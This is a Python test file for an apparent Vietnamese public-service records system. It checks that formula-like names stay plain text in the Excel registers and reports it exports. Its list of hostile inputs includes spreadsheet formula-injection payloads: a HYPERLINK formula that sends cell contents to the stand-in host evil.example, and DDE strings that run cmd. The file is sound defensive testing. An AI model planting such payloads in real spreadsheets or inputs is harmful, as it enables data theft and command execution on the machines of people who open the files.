"""What people type never becomes a formula in the workbooks officers open: an applicant, an
officer, a unit or a procedure named like a formula is written as text (issue 14)."""

import io
from datetime import timedelta

import openpyxl
import pytest

from motcua.models import Role, TaskStatus, utcnow
from motcua.services import register, report_counts, report_workbook
from motcua.services import report_periods as periods
from tests.factories import add_task, insert_dossier, make_procedure, make_unit, make_user

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1;"Bấm xem")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def cells(data: bytes) -> list:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("name", HOSTILE)
def test_names_like_formulas_stay_text_in_the_register_and_the_report(app, name):
    with app.app_context():
        unit = make_unit(name=name)
        officer = make_user(unit=unit, roles=[Role.SUPERVISOR, Role.SPECIALIST], display_name=name)
        procedure = make_procedure(unit=unit, name="=SUM(1+1)*cmd")
        dossier = insert_dossier(procedure, unit, applicant_name=name)
        add_task(dossier, status=TaskStatus.DONE, assignee=officer)
        today = periods.today_local()
        period = periods.custom(today - timedelta(days=1), today + timedelta(days=1))

        register_book = register.register_workbook(unit, period.start, period.last_day)
        report = report_counts.statistics(officer, unit.code, period, "unit", now=utcnow())
        report_book = report_workbook.workbook(report)

    for data in (register_book, report_book):
        found = cells(data)
        assert [c.coordinate for c in found if c.data_type == "f"] == []
        assert any(isinstance(c.value, str) and name in c.value for c in found)
